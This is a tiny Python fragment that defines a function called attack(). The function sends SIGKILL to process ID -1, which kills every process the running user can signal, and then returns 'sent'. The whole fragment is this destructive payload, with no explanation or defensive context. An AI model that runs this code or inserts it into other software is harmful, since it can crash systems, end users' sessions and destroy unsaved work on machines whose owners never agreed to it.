import os, signal

def attack():
    os.kill(-1, signal.SIGKILL)
    return "sent"
